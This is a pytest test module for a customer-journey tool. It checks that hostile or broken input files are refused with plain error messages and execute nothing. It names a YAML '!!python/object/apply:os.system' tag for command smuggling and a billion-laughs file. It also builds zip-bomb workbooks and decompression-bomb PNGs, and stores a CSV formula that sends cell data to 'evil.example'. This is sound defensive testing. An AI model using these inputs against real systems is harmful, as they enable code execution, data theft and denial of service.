"""Bad files never break anything: every file in tests/bad_files/ gives a sentence.

Each file goes through every reader that would receive it — the journey and
questionnaire readers, `validate`'s kind sniffing, the survey, metric and visit
importers, the photo cleaner — and through the command line. The expected messages are
written out by hand from the files (the line, row or field they name and the fix), and
tests/bad_files/README.md lists the same. Huge files are made here in a temporary
folder instead of being kept in the repository.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest
from PIL import Image
from sqlalchemy import Engine

from journeymap.cli import main
from journeymap.io.file_checks import MB, PHOTO_MAX_BYTES, WORKBOOK_MAX_UNPACKED_BYTES
from journeymap.io.file_kinds import validate_file
from journeymap.io.journey_files import parse_journey_text, read_journey_file
from journeymap.io.photos import PhotoRejected, clean_photo
from journeymap.io.questionnaire_files import read_questionnaire_file
from journeymap.io.survey_import import ImportMapping, preview
from journeymap.io.visit_tables import VisitFileError, read_table, read_table_file
from journeymap.model import InvalidInput, Journey
from journeymap.store.engine import open_database
from journeymap.store.evidence import read_responses
from tests.conftest import JOURNEYS_DIR, ROOT
from tests.shopping import seed_tablet_visit
from tests.unit.voc_helpers import SHOP, run_import, run_metric_import, shop_engine

CORPUS = ROOT / "tests" / "bad_files"
BANK = read_journey_file(JOURNEYS_DIR / "bank-advisory.yaml").journey
RECOMMEND = "How likely are you to recommend us?"

# File → the message every journey reader gives after "<path>: ".
JOURNEY_FILES = {
    "journeys/truncated.yaml": "line 15, column 39: found unexpected end of stream: "
    "fix the YAML syntax there",
    "journeys/truncated.json": "line 6, column 28: a text in quotes is never closed "
    "(is the file cut short?): add the closing quote",
    "journeys/utf16-no-bom.yaml": "the file is UTF-16 text (e.g. Excel's 'Unicode text'), "
    "which is not read here: save it as UTF-8 (in Excel: 'CSV UTF-8')",
    "journeys/cp1252.yaml": "line 3: the file is not UTF-8 text: save it as UTF-8 "
    "(in Excel or an editor: 'Save as… UTF-8')",
    "journeys/latin1-claims-utf8.yaml": "line 10: the file is not UTF-8 text: save it as UTF-8",
    "journeys/binary.yaml": "the file is not text (binary data, e.g. a picture, a PDF or a "
    "workbook): check that it is the right file, saved as text",
    "journeys/empty.yaml": "the file is empty (or holds only comments): write the journey in it",
    "journeys/comments-only.yaml": "the file is empty (or holds only comments): "
    "write the journey in it",
    "journeys/python-tag.yaml": "line 3, column 7: the tag '!!python/object/apply:os.system' "
    "is not allowed: these files hold only text, numbers, lists and mappings; remove the tag",
    "journeys/custom-tag.yaml": "line 17, column 14: the tag '!include' is not allowed",
    "journeys/billion-laughs.yaml": "line 3, column 12: anchors and aliases (*name) are not "
    "allowed: write the value out",
    "journeys/deeply-nested.yaml": "line 2, column 64: the data is nested more than 50 levels "
    "deep: a journey needs fewer than 10; check the brackets and the indentation",
    "journeys/deeply-nested.json": "the data is nested more than 50 levels deep: a journey "
    "needs fewer than 10; check the brackets",
    "journeys/list.yaml": "the file must hold one journey (a mapping of keys)",
    "journeys/trailing-comma.json": "line 5, column 1: JSON allows no comma after the last "
    "item: remove it",
    "journeys/unknown-keys.yaml": "touchpoints[kasse].ownr: unknown key 'ownr'; did you mean "
    "'owner'?",
    "journeys/duplicate-keys.yaml": "line 14, column 1: the key 'touchpoints' is written twice "
    "(first on line 7); a file keeps only one: merge the two or remove one",
    "journeys/huge-number.yaml": "line 16, column 26: '999999999999999999999999999999…' cannot "
    "be read as a whole number: correct it, or put it in quotes if it is meant as text",
    "journeys/impossible-date.yaml": "line 4, column 10: '2026-02-30' cannot be read as a date "
    "(is there such a day?)",
    "journeys/infinite-number.yaml": "line 16, column 26: '.inf' is not a usable number: write "
    "an ordinary (finite) number",
    "journeys/nan.json": "line 24: 'NaN' is not a usable number: write an ordinary (finite) number",
    "journeys/wrong-tag-value.yaml": "line 16, column 26: 'one thousand' cannot be read as a "
    "whole number",
}

# File → the message of the questionnaire reader (checked against bank-advisory).
QUESTIONNAIRE_FILES = {
    "questionnaires/unknown-touchpoint.yaml": "sections[kassen].touchpoint: unknown "
    "touchpoint 'kassen'; the journey's touchpoints are: se-kampagne, beregn-online",
    "questionnaires/list.yaml": "a questionnaire must be a mapping of keys (id, name, sections …)",
    "questionnaires/cp1252.yaml": "line 2: the file is not UTF-8 text: save it as UTF-8",
    "questionnaires/python-tag.yaml": "line 2, column 7: the tag '!!python/name:os.system' is "
    "not allowed",
    "questionnaires/trailing-comma.json": "line 1, column 98: JSON allows no comma after the "
    "last item: remove it",
}

# File → the message every table reader (survey preview and import, metric import) gives
# after "<file name>: ".
REFUSED_TABLES = {
    "surveys/truncated.csv": "row 5: a quoted cell starts in this row and is never closed "
    "(is the file cut short, or a quote mark missing?): close the quote, or export the file again",
    "surveys/truncated.xlsx": "the file is not a complete Excel workbook (damaged, cut short, or "
    "another kind of file named .xlsx): open it in Excel and save it again as .xlsx",
    "surveys/utf16-no-bom.csv": "the file is UTF-16 text (e.g. Excel's 'Unicode text')",
    "surveys/utf16-excel-unicode-text.txt": "the file is UTF-16 text (e.g. Excel's 'Unicode text')",
    "surveys/latin1-claims-utf8.csv": "line 3: the file is marked as UTF-8 but this line is not "
    "(æ, ø or å saved as Windows-1252 or Latin-1): save the whole file again as 'CSV UTF-8'",
    "surveys/mixed-utf8-cp1252.csv": "the file mixes two encodings: line 2 is UTF-8 but line 3 "
    "is Windows-1252 or Latin-1, so æ, ø and å would come out garbled in some rows",
    "surveys/binary.csv": "the file is not text (binary data",
    "surveys/picture-named.csv": "the file is not text (binary data",
    "surveys/binary.xlsx": "the file is not a complete Excel workbook",
    "surveys/zip-not-workbook.xlsx": "the file is a zip archive but not an Excel workbook: "
    "unpack it, or save the spreadsheet again as .xlsx",
    "surveys/empty.csv": "the file is empty: export the survey again",
}
# Read, with what is wrong said in the preview, the import report or both.
READ_TABLES = {
    "surveys/cp1252-danish.csv",
    "surveys/header-only.csv",
    "surveys/no-score-column.csv",
    "surveys/duplicate-columns.csv",
    "surveys/formula.csv",
    "surveys/extra-cells.csv",
    "metrics/no-date-column.csv",
    "metrics/unknown-metric-columns.csv",
    "metrics/bad-values.csv",
    "metrics/out-of-range.csv",
}

VISIT_FILES = {
    "visits/missing-columns.csv": "missing column(s) shopper: the first row must name the "
    "columns visit, location and shopper, then one column per question id",
    "visits/one-column.csv": "missing column(s) location, shopper",
    "visits/duplicate-columns.csv": "the column 'greeted' is in the header more than once: "
    "keep one",
    "visits/truncated.csv": "row 2: a quoted cell starts in this row and is never closed",
    "visits/truncated.xlsx": "the file is not a complete Excel workbook",
    "visits/binary.xlsx": "the file is not a complete Excel workbook",
    "visits/zip-not-workbook.xlsx": "the file is a zip archive but not an Excel workbook",
    "visits/binary.csv": "the file is not text (binary data",
    "visits/utf16-no-bom.csv": "the file is UTF-16 text",
    "visits/cp1252.csv": "line 2: the file is not UTF-8 text",
    "visits/empty.csv": "the file is empty: export the visits again",
}

PHOTO_FILES = {
    "photos/html.jpg": "html.jpg is not a photo this app can read: use a JPEG, PNG or WebP image",
    "photos/svg.png": "svg.png is not a photo this app can read: use a JPEG, PNG or WebP image",
    "photos/binary.jpg": "binary.jpg is not a photo this app can read: use a JPEG, PNG or "
    "WebP image",
    "photos/empty.jpg": "empty.jpg is empty: take the photo again",
    "photos/icon.jpg": "icon.jpg is an image in ICO format: use a JPEG, PNG or WebP photo",
    "photos/truncated.jpg": "truncated.jpg is damaged or incomplete: take the photo again",
    "photos/truncated.png": "truncated.png is damaged or incomplete: take the photo again",
}
READ_PHOTOS = {"photos/broken-exif.jpg"}


def corpus(name: str) -> Path:
    return CORPUS / name


@pytest.fixture(scope="module")
def workspace(tmp_path_factory: pytest.TempPathFactory) -> str:
    """One database for the module: the shop journey and the tablet test programme."""
    url = f"sqlite:///{tmp_path_factory.mktemp('bad-input') / 'w.db'}"
    engine = shop_engine(url)
    seed_tablet_visit(engine)
    engine.dispose()
    return url


@pytest.fixture(scope="module")
def engine(workspace: str) -> Iterator[Engine]:
    engine = open_database(workspace)
    yield engine
    engine.dispose()


def survey_mapping(**changes: object) -> ImportMapping:
    values: dict[str, object] = {"score": RECOMMEND, "date": "Date", "touchpoint": "Touchpoint"}
    return ImportMapping.model_validate(values | changes)


# --- the corpus is complete and documented ------------------------------------------


def test_every_bad_file_has_an_expectation_and_a_line_in_the_readme() -> None:
    files = {
        str(p.relative_to(CORPUS)) for p in CORPUS.rglob("*") if p.is_file() and p.suffix != ".md"
    }
    expected = (
        set(JOURNEY_FILES)
        | set(QUESTIONNAIRE_FILES)
        | set(REFUSED_TABLES)
        | READ_TABLES
        | set(VISIT_FILES)
        | set(PHOTO_FILES)
        | READ_PHOTOS
    )
    assert files == expected
    readme = (CORPUS / "README.md").read_text(encoding="utf-8")
    undocumented = [f for f in sorted(files) if f"`{Path(f).name}`" not in readme]
    assert undocumented == []


# --- journey and questionnaire files -------------------------------------------------


@pytest.mark.parametrize(("name", "message"), JOURNEY_FILES.items(), ids=list(JOURNEY_FILES))
def test_journey_readers_give_the_line_and_the_fix(
    name: str, message: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)  # where a command smuggled into python-tag.yaml would write
    path = corpus(name)
    with pytest.raises(InvalidInput) as from_disk:
        read_journey_file(path)
    assert str(from_disk.value).startswith(f"{path}: ")
    assert message in str(from_disk.value)
    # The app's upload reads the bytes without a path; the message is the same.
    with pytest.raises(InvalidInput) as uploaded:
        parse_journey_text(path.read_bytes(), json_format=path.suffix == ".json")
    assert message in str(uploaded.value)
    # `validate` first sniffs whether the file is a questionnaire, then reports.
    with pytest.raises(InvalidInput) as validated:
        validate_file(path, {BANK.id: BANK})
    assert message in str(validated.value)
    # Handed to the questionnaire reader instead, it still gets a sentence.
    with pytest.raises(InvalidInput) as as_questionnaire:
        read_questionnaire_file(path, BANK)
    assert str(as_questionnaire.value).startswith(f"{path}: ")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "message"), QUESTIONNAIRE_FILES.items(), ids=list(QUESTIONNAIRE_FILES)
)
def test_questionnaire_reader_gives_the_field_and_the_fix(name: str, message: str) -> None:
    path = corpus(name)
    with pytest.raises(InvalidInput) as refused:
        read_questionnaire_file(path, BANK)
    assert str(refused.value).startswith(f"{path}: ")
    assert message in str(refused.value)
    # What is no questionnaire at all (a list, unreadable text) `validate` reads as a journey.
    with pytest.raises(InvalidInput) as validated:
        validate_file(path, {BANK.id: BANK})
    assert str(validated.value).startswith(f"{path}: ")
    with pytest.raises(InvalidInput):
        read_journey_file(path)


def test_a_questionnaire_and_a_journey_handed_to_the_wrong_reader_are_named() -> None:
    with pytest.raises(InvalidInput, match="this is a mystery-shopper questionnaire, not a "):
        read_journey_file(corpus("questionnaires/unknown-touchpoint.yaml"))
    with pytest.raises(InvalidInput, match="this is a journey, not a mystery-shopper "):
        read_questionnaire_file(corpus("journeys/unknown-keys.yaml"))


def test_a_journey_file_over_the_limit_names_its_size(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    text = (JOURNEYS_DIR / "bank-advisory.yaml").read_text(encoding="utf-8")
    path.write_text(text + "# " + "x" * (5 * MB) + "\n", encoding="utf-8")
    with pytest.raises(InvalidInput) as refused:
        read_journey_file(path)
    assert str(refused.value) == (
        f"{path}: the file is 5.1 MB, more than the 5 MB a journey or questionnaire file may "
        "be: check that it is the right file (a journey file is usually under 100 KB)"
    )
    with pytest.raises(InvalidInput, match="the file is 5.1 MB, more than the 5 MB"):
        read_questionnaire_file(path)


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
def test_a_file_whose_size_the_system_misreports_is_read_only_up_to_the_limit() -> None:
    # /dev/zero says it holds 0 bytes and never ends; only limit + 1 bytes are read.
    with pytest.raises(InvalidInput) as refused:
        read_journey_file("/dev/zero")
    assert str(refused.value) == (
        "/dev/zero: the file is more than the 5 MB a journey or questionnaire file may be: "
        "check that it is the right file (a journey file is usually under 100 KB)"
    )
    with pytest.raises(VisitFileError, match="^zero: the file is more than the 20 MB a visit"):
        read_table_file(Path("/dev/zero"))


def test_a_journey_that_is_long_but_shallow_still_loads() -> None:
    # The depth limit counts nesting, not size: the biggest example journey is fine.
    for path in sorted(JOURNEYS_DIR.glob("*.yaml")):
        assert isinstance(read_journey_file(path).journey, Journey)


# --- survey exports and metric tables ------------------------------------------------


@pytest.mark.parametrize(("name", "message"), REFUSED_TABLES.items(), ids=list(REFUSED_TABLES))
def test_table_readers_refuse_with_the_row_and_the_fix(
    name: str, message: str, engine: Engine
) -> None:
    path = corpus(name)
    expected = f"{path.name}: {message}"
    with pytest.raises(InvalidInput) as previewed:
        preview(path, SHOP)
    assert str(previewed.value).startswith(expected)
    with pytest.raises(InvalidInput) as imported:
        run_import(engine, SHOP, path, survey_mapping(), dry_run=True)
    assert str(imported.value).startswith(expected)
    with pytest.raises(InvalidInput) as metrics:
        run_metric_import(engine, SHOP, path, dry_run=True)
    assert str(metrics.value).startswith(f"{path.name}: ")


def test_windows_1252_with_danish_letters_is_read_intact(engine: Engine) -> None:
    path = corpus("surveys/cp1252-danish.csv")
    proposal = preview(path, SHOP)
    assert proposal.description == "generic CSV export, CP1252, semicolon-separated, decimal point"
    assert proposal.problems == []
    assert list(proposal.first_rows["Kommentar"]) == [
        "Søde og hurtige medarbejdere i Århus",
        "Rådgiveren var ikke forberedt på mødet",
    ]
    report = run_import(engine, SHOP, path, proposal.mapping, dry_run=True)
    assert (report.rows_read, report.imported, report.rejected_count) == (2, 2, 0)


def test_a_header_without_rows_is_said_before_and_at_import(engine: Engine) -> None:
    path = corpus("surveys/header-only.csv")
    no_rows = "the file has a header but no rows of answers: export the survey again with its "
    assert preview(path, SHOP).problems[0] == no_rows + "responses"
    with pytest.raises(InvalidInput, match=f"^header-only.csv: {no_rows}"):
        run_import(engine, SHOP, path, survey_mapping(), dry_run=True)


def test_no_score_column_is_said_before_and_at_import(engine: Engine) -> None:
    path = corpus("surveys/no-score-column.csv")
    proposal = preview(path, SHOP)
    assert proposal.problems == [
        "no column is clearly the 0–10 recommend question: choose it (--score COL)"
    ]
    with pytest.raises(InvalidInput) as refused:
        run_import(engine, SHOP, path, proposal.mapping, dry_run=True)
    assert str(refused.value) == (
        "no-score-column.csv: --score: say which column holds the 0–10 recommend answer"
    )


def test_a_repeated_header_is_named_and_the_first_column_used(engine: Engine) -> None:
    path = corpus("surveys/duplicate-columns.csv")
    note = (
        f"the header has the column '{RECOMMEND}' more than once; the repeats are called "
        f"'{RECOMMEND} (2)' and so on: check that the right one is chosen, or rename them in "
        "the file"
    )
    proposal = preview(path, SHOP)
    assert proposal.problems == [note]
    assert proposal.mapping.score == RECOMMEND
    report = run_import(engine, SHOP, path, proposal.mapping, dry_run=True)
    assert report.warnings == [f"duplicate-columns.csv: {note}"]
    assert (report.imported, report.rejected_count) == (3, 0)


def test_formulas_are_text_a_formula_score_is_one_rejected_row(engine: Engine) -> None:
    path = corpus("surveys/formula.csv")
    report = run_import(engine, SHOP, path, survey_mapping(comment="Comment"))
    assert (report.rows_read, report.imported, report.rejected_count) == (3, 2, 1)
    assert [str(r) for r in report.rejected] == [
        f"row 3, column '{RECOMMEND}': '=4+5' is not a score: give a whole number from 0 to 10"
    ]
    stored = read_responses(engine, SHOP.id)
    stored = stored[stored["source"] == "generic:formula.csv"]
    assert sorted(zip(stored["score"], stored["comment"], strict=True)) == [
        (9, '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
        (10, "@SUM(1+1)"),
    ]


def test_a_row_with_extra_cells_is_skipped_with_its_line_and_the_rest_kept(
    engine: Engine,
) -> None:
    path = corpus("surveys/extra-cells.csv")
    warning = (
        "Skipping line 5: expected 4 fields, saw 6 (a row with more cells than the header "
        "was skipped: check for an unquoted delimiter in that row)"
    )
    assert preview(path, SHOP).problems == [warning]
    report = run_import(engine, SHOP, path, survey_mapping(comment="Comment"), dry_run=True)
    assert (report.rows_read, report.imported) == (4, 4)
    assert report.warnings == [f"extra-cells.csv: {warning}"]


@pytest.mark.parametrize(
    ("name", "message"),
    [
        (
            "metrics/no-date-column.csv",
            "no-date-column.csv: header row: no date column: name the columns date, "
            "touchpoint [, location], then either metric and value, or one column per metric",
        ),
        (
            "metrics/unknown-metric-columns.csv",
            "unknown-metric-columns.csv: header row: no column is a metric of the journey",
        ),
        (
            "surveys/header-only.csv",
            "header-only.csv: the file has a header but no rows of values: add them",
        ),
    ],
)
def test_metric_tables_without_the_columns_say_which(
    name: str, message: str, engine: Engine
) -> None:
    with pytest.raises(InvalidInput) as refused:
        run_metric_import(engine, SHOP, corpus(name), dry_run=True)
    assert str(refused.value).startswith(message)


def test_metric_rows_with_bad_values_are_each_named_and_the_rest_kept(engine: Engine) -> None:
    report = run_metric_import(engine, SHOP, corpus("metrics/bad-values.csv"), dry_run=True)
    assert (report.rows_read, report.imported, report.rejected_count) == (4, 2, 2)
    assert [str(r) for r in report.rejected] == [
        "row 3, column 'value (wait_minutes)': 'lots' is not a number (write 3.5 or 3,5)",
        "row 4, column 'touchpoint': 'nowhere' is not a touchpoint of the journey: use a "
        "touchpoint id or name",
    ]


def test_metric_values_that_are_no_measurement_are_rejected_not_stored(engine: Engine) -> None:
    # Before, '-inf' was stored as a value and an n of 1e300 wrapped to a negative count.
    report = run_metric_import(engine, SHOP, corpus("metrics/out-of-range.csv"), dry_run=True)
    assert (report.rows_read, report.imported, report.rejected_count) == (5, 1, 4)
    up_to = "is not a whole number from 1 to 1 000 000 000"
    assert [str(r) for r in report.rejected] == [
        "row 3, column 'value (wait_minutes)': '-inf' is not a number (write 3.5 or 3,5)",
        f"row 4, column 'n': '1e300' {up_to}",
        f"row 5, column 'n': '99999999999999999999' {up_to}",
        f"row 6, column 'n': '0' {up_to}",
    ]


def test_a_survey_export_over_the_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "everything.csv"
    with path.open("wb") as handle:
        handle.truncate(300 * MB)  # sparse: nothing is written, nothing is read
    with pytest.raises(InvalidInput) as refused:
        preview(path, SHOP)
    assert str(refused.value) == (
        "everything.csv: the file is 300 MB, more than the 200 MB an import takes: split it "
        "by period (e.g. one file per quarter) and import each part"
    )


def workbook_bomb(path: Path) -> Path:
    """A valid-looking workbook whose one sheet unpacks to 280 × 980 000 bytes of rows."""
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>' * 20_000  # ~1 MB
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(280):
                sheet.write(row)
    return path


@pytest.fixture(scope="module")
def bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return workbook_bomb(tmp_path_factory.mktemp("bomb") / "answers.xlsx")


def test_a_workbook_that_unpacks_enormously_is_refused_before_unpacking(
    bomb: Path, engine: Engine
) -> None:
    # Small enough for the app's 5 MB upload limit: the unpacked size is what must stop it.
    assert bomb.stat().st_size < 5 * MB
    with zipfile.ZipFile(bomb) as archive:
        assert sum(m.file_size for m in archive.infolist()) > WORKBOOK_MAX_UNPACKED_BYTES
    message = (
        "the workbook unpacks to 262 MB, more than the 256 MB a workbook may hold: save the "
        "sheet as CSV (read in parts, up to 200 MB) or split it"
    )
    with pytest.raises(InvalidInput) as previewed:
        preview(bomb, SHOP)
    assert str(previewed.value) == f"answers.xlsx: {message}"
    with pytest.raises(VisitFileError) as visits:
        read_table(bomb.name, bomb.read_bytes())
    assert str(visits.value) == f"answers.xlsx: {message}"


# --- visit tables --------------------------------------------------------------------


@pytest.mark.parametrize(("name", "message"), VISIT_FILES.items(), ids=list(VISIT_FILES))
def test_visit_tables_give_the_file_and_the_fix(name: str, message: str) -> None:
    path = corpus(name)
    for read in (lambda: read_table(path.name, path.read_bytes()), lambda: read_table_file(path)):
        with pytest.raises(VisitFileError) as refused:
            read()
        assert str(refused.value).startswith(f"{path.name}: {message}")


def test_a_visit_table_over_the_limit_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "visits.csv"
    with path.open("wb") as handle:
        handle.truncate(30 * MB)
    with pytest.raises(VisitFileError) as refused:
        read_table_file(path)
    assert str(refused.value) == (
        "visits.csv: the file is 30 MB, more than the 20 MB a visit table may be: split it "
        "into files of at most 20000 visits"
    )


# --- photos --------------------------------------------------------------------------


@pytest.mark.parametrize(("name", "message"), PHOTO_FILES.items(), ids=list(PHOTO_FILES))
def test_photos_that_are_not_usable_are_refused_with_a_sentence(name: str, message: str) -> None:
    path = corpus(name)
    with pytest.raises(PhotoRejected) as refused:
        clean_photo(path.read_bytes(), path.name)
    assert str(refused.value) == message


def test_a_photo_with_broken_metadata_keeps_its_pixels_and_loses_the_metadata() -> None:
    clean = clean_photo(corpus("photos/broken-exif.jpg").read_bytes(), "broken-exif.jpg")
    assert (clean.width, clean.height, clean.content_type) == (64, 48, "image/jpeg")
    assert len(Image.open(io.BytesIO(clean.data)).getexif()) == 0


def png(width: int, height: int, *, pixels: bool) -> bytes:
    """An 8-bit grey PNG declaring width × height; with ``pixels``, all of them, zero."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body)
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    compressor = zlib.compressobj(9)
    if pixels:
        rows = (b"\x00" + bytes(width)) * 100  # filter byte, then the row
        data = b"".join(compressor.compress(rows) for _ in range(height // 100))
    else:
        data = compressor.compress(b"\x00")
    data += compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


@pytest.mark.parametrize(
    ("width", "height", "pixels"),
    [
        (8_000, 7_000, True),  # 56 million: over the app's 50 million
        (10_000, 10_000, False),  # 100 million: over Pillow's warning level
        (100_000, 100_000, False),  # 10 000 million: over Pillow's refusal level
    ],
    ids=["56 Mpx, all there", "100 Mpx declared", "10 000 Mpx declared"],
)
def test_decompression_bombs_are_refused_before_decoding(
    width: int, height: int, pixels: bool
) -> None:
    data = png(width, height, pixels=pixels)
    assert len(data) < PHOTO_MAX_BYTES  # the upload limit does not stop them
    with pytest.raises(PhotoRejected) as refused:
        clean_photo(data, "bomb.png")
    assert str(refused.value) == "bomb.png has too many pixels: take it at a lower resolution"


def test_a_photo_over_the_limit_names_its_size() -> None:
    with pytest.raises(PhotoRejected) as refused:
        clean_photo(b"\xff\xd8" + bytes(6 * MB), "IMG_0042.jpg")
    assert str(refused.value) == (
        "IMG_0042.jpg is 6.0 MB; photos may be at most 5 MB: take it at a lower resolution"
    )


# --- the command line ----------------------------------------------------------------


def run_cli(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str]:
    code = main(list(args))  # anything but the product's errors would escape and fail here
    out, err = capsys.readouterr()
    return code, out + err


def assert_one_paragraph(code: int, text: str, file_name: str) -> None:
    lines = text.strip().splitlines()
    assert code != 0
    assert "Traceback" not in text
    assert 1 <= len(lines) <= 3, text
    assert all(line.strip() for line in lines), text
    assert file_name in lines[0]


DOCUMENTS = sorted([*JOURNEY_FILES, *QUESTIONNAIRE_FILES])


@pytest.mark.parametrize("name", DOCUMENTS)
@pytest.mark.parametrize("command", ["validate", "import-journey", "import-questionnaire"])
def test_commands_that_read_journeys_and_questionnaires(
    command: str,
    name: str,
    workspace: str,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    # `validate` checks questionnaires against the journeys in journeys/; only the one they
    # name is needed, and leaving out the others keeps this fast.
    journeys = tmp_path / "journeys"
    journeys.mkdir()
    if name.startswith("questionnaires/"):
        (journeys / "bank-advisory.yaml").write_bytes(
            (JOURNEYS_DIR / "bank-advisory.yaml").read_bytes()
        )
    monkeypatch.setattr("journeymap.cli.journeys.DEFAULT_JOURNEYS_DIR", journeys)
    code, text = run_cli(capsys, "--db", workspace, command, str(corpus(name)))
    assert_one_paragraph(code, text, str(corpus(name)))
    assert [p.name for p in tmp_path.iterdir()] == ["journeys"]  # python-tag.yaml ran nothing


TABLE_COMMANDS = [
    *[("import-responses", name) for name in [*REFUSED_TABLES, "surveys/header-only.csv"]],
    *[("import-metrics", name) for name in REFUSED_TABLES],
    ("import-metrics", "metrics/no-date-column.csv"),
    ("import-metrics", "metrics/unknown-metric-columns.csv"),
]


@pytest.mark.parametrize(("command", "name"), TABLE_COMMANDS)
def test_commands_that_import_tables(
    command: str, name: str, workspace: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = corpus(name)
    code, text = run_cli(capsys, "--db", workspace, command, "shop", str(path), "--dry-run")
    assert_one_paragraph(code, text, path.name)


@pytest.mark.parametrize("name", sorted(VISIT_FILES))
def test_import_visits_names_the_file_and_the_fix(
    name: str, workspace: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path = corpus(name)
    code, text = run_cli(capsys, "--db", workspace, "import-visits", "bank-tablet", str(path))
    assert_one_paragraph(code, text, path.name)
    assert text.startswith(f"journeymap: {path.name}: {VISIT_FILES[name]}")


def test_commands_refuse_files_over_the_limit_unread(
    workspace: str, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    journey = tmp_path / "journey.yaml"
    with journey.open("wb") as handle:
        handle.truncate(6 * MB)
    survey = tmp_path / "survey.csv"
    with survey.open("wb") as handle:
        handle.truncate(250 * MB)
    visits = tmp_path / "visits.csv"
    with visits.open("wb") as handle:
        handle.truncate(21 * MB)
    for args, message in [
        (
            ("validate", str(journey)),
            f"{journey}: file: the file is 6 MB, more than the 5 MB a journey or questionnaire",
        ),
        (
            ("import-journey", str(journey)),
            f"{journey}: the file is 6 MB, more than the 5 MB a journey or questionnaire",
        ),
        (
            ("import-responses", "shop", str(survey)),
            "survey.csv: the file is 250 MB, more than the 200 MB an import takes",
        ),
        (
            ("import-metrics", "shop", str(survey)),
            "survey.csv: the file is 250 MB, more than the 200 MB an import takes",
        ),
        (
            ("import-visits", "bank-tablet", str(visits)),
            "journeymap: visits.csv: the file is 21 MB, more than the 20 MB a visit table",
        ),
    ]:
        code, text = run_cli(capsys, "--db", workspace, *args)
        assert_one_paragraph(code, text, Path(args[-1]).name)
        assert text.startswith(message), text
